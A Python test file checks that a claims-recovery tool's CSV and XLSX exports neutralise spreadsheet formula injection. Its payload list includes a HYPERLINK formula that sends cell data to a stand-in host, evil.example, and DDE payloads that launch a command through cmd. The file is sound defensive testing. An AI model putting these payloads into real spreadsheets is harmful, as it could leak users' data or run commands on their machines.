"""Text from a file never becomes a live formula in an export (OWASP's CSV-injection advice)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

from recovery.claims.queue import QueueRow, export_worklist, write_contract_csv
from recovery.exports import FORMULA_STARTS, inert_text

# Each dangerous first character, in a payload a spreadsheet would run.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


def test_every_owasp_start_character_has_a_payload() -> None:
    assert {p[0] for p in PAYLOADS} == set(FORMULA_STARTS)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\nx", "'\nx"),
        ("CB-123=4", "CB-123=4"),  # only the first character counts
        ("", ""),
        ("'=already", "'=already"),
    ],
)
def test_inert_text(text: str, expected: str) -> None:
    assert inert_text(text) == expected


def _row(claim_id: int, payload: str) -> QueueRow:
    return QueueRow(
        id=claim_id,
        type="chargeback",
        status="ready",
        level=1,
        band=None,
        days_left=5,
        deadline=date(2026, 12, 1),
        file_by=date(2026, 11, 30),
        invoice_number=payload,
        po_number=payload,
        asin=payload,
        reference=payload,
        quantity=3,
        amount=Decimal("-12.50") if claim_id == 1 else Decimal("12.50"),
        currency="USD",
        confidence_pct=90,
        reason=payload,
        evidence=(payload,),
        to_do=payload,
    )


ROWS = [_row(i, p) for i, p in enumerate(PAYLOADS, start=1)]


def _inert_in_csv(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS), cell


def test_worklist_csv_writes_every_payload_inert(tmp_path: Path) -> None:
    out = tmp_path / "worklist.csv"
    assert export_worklist(ROWS, "csv", out) == len(PAYLOADS)
    with out.open(encoding="utf-8", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    amount = header.index("Amount")
    for row in rows:
        # The payload survives (after the quote), and the product's own numbers stay numbers.
        assert row[header.index("Reference")][1:] in PAYLOADS
        _inert_in_csv([c for i, c in enumerate(row) if i != amount])
    assert sorted(r[amount] for r in rows)[0] == "-12.50"


def test_contract_csv_writes_every_payload_inert() -> None:
    stream = io.StringIO()
    write_contract_csv(ROWS, stream)
    stream.seek(0)
    records = list(csv.DictReader(stream))
    assert len(records) == len(PAYLOADS)
    for record in records:
        _inert_in_csv([v for k, v in record.items() if k != "amount"])
        assert record["reference"][1:] in PAYLOADS
    assert {r["amount"] for r in records} == {"-12.50", "12.50"}


def test_worklist_xlsx_has_no_formula_and_keeps_the_text(tmp_path: Path) -> None:
    out = tmp_path / "worklist.xlsx"
    export_worklist(ROWS, "xlsx", out)
    with zipfile.ZipFile(out) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
        styles = book.read("xl/styles.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    assert 'quotePrefix="1"' in styles
    # Cells are shared strings (t="s") or numbers: no inline formula-typed cell (t="str").
    assert not re.search(r'<c [^>]*t="str"', sheet_xml)
    sheet = CalamineWorkbook.from_path(str(out)).get_sheet_by_name("Worklist").to_python()
    header, *rows = sheet
    reference = header.index("Reference")
    # Exactly the text the file had: the quote prefix is a style, not a character.
    assert sorted(r[reference] for r in rows) == sorted(PAYLOADS)
    assert sorted(r[header.index("Amount")] for r in rows)[0] == -12.5
